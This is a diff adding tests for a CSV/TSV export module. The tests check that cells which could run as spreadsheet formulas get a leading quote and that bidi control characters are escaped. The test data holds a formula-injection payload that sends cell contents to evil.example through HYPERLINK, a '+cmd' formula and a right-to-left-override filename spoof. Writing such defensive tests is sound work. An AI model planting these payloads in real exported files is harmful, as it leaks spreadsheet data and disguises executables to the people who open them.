@@ -278,6 +278,46 @@ describe('Output', () => {
     expect(tsv.text()).toBe('unit\tnote\tplain\nR\\e[2JUB\tbell\\x07 c1\\x9b\ta,b\\n"c"\n');
   });
 
+  it('csv and tsv give a text cell that a spreadsheet would run as a formula a leading quote; numbers stay as they are', async () => {
+    const hostile = { name: '=HYPERLINK("https://evil.example/?"&A1)', plus: '+1+cmd', minus: '-2+3', at: '@SUM(A1)', tab: '\t=1', cr: '\r=1', list: ['=a', 'b'] };
+    const numbers = { n: -3, big: -12345678901234567890n, text: 'fine', dash: 'a-b', empty: '', none: null, yes: true };
+    const csv = capture('csv');
+    await csv.output.list([hostile], []);
+    expect(parse(csv.text(), { columns: true })).toEqual([
+      { name: `'${hostile.name}`, plus: "'+1+cmd", minus: "'-2+3", at: "'@SUM(A1)", tab: "'\t=1", cr: "'\r=1", list: "'=a,b" },
+    ]);
+    const tsv = capture('tsv');
+    await tsv.output.list([hostile], []);
+    expect(tsv.text().split('\n')[1]).toBe(`'${hostile.name}\t'+1+cmd\t'-2+3\t'@SUM(A1)\t'\\t=1\t'\\r=1\t'=a,b`);
+    for (const format of ['csv', 'tsv'] as const) {
+      const plain = capture(format);
+      await plain.output.list([numbers], []);
+      expect(plain.text().split('\n')[1]).toBe(['-3', '-12345678901234567890', 'fine', 'a-b', '', '', 'true'].join(format === 'csv' ? ',' : '\t'));
+    }
+  });
+
+  it('csv and tsv keep a negative decimal written as text as it is in a field declared a decimal, and quote it elsewhere', async () => {
+    const row = { amount: '-12.50', note: '-12.50', odd: '-1+1' };
+    for (const format of ['csv', 'tsv'] as const) {
+      const out = capture(format);
+      await out.output.list([row], [], undefined, undefined, ['amount', 'odd']);
+      expect(out.text().split('\n')[1]).toBe(["-12.50", "'-12.50", "'-1+1"].join(format === 'csv' ? ',' : '\t'));
+    }
+  });
+
+  it('csv and tsv escape bidi controls as \\u.... (json leaves them to JSON)', async () => {
+    const row = { name: 'invoice-\u202egnp.exe', iso: 'a\u2066b\u2069c', mark: 'a\u202ab\u202cc' };
+    const csv = capture('csv');
+    await csv.output.list([row], []);
+    expect(parse(csv.text(), { columns: true })).toEqual([{ name: 'invoice-\\u202egnp.exe', iso: 'a\\u2066b\\u2069c', mark: 'a\\u202ab\\u202cc' }]);
+    const tsv = capture('tsv');
+    await tsv.output.list([row], []);
+    expect(tsv.text()).toBe('name\tiso\tmark\ninvoice-\\u202egnp.exe\ta\\u2066b\\u2069c\ta\\u202ab\\u202cc\n');
+    const json = capture('ndjson');
+    await json.output.list([row], []);
+    expect(JSON.parse(json.text())).toEqual(row);
+  });
+
   it('wraps a record table to the terminal instead of cutting its values', async () => {
     const stream = Object.assign(new PassThrough(), { columns: 50 });
     let text = '';
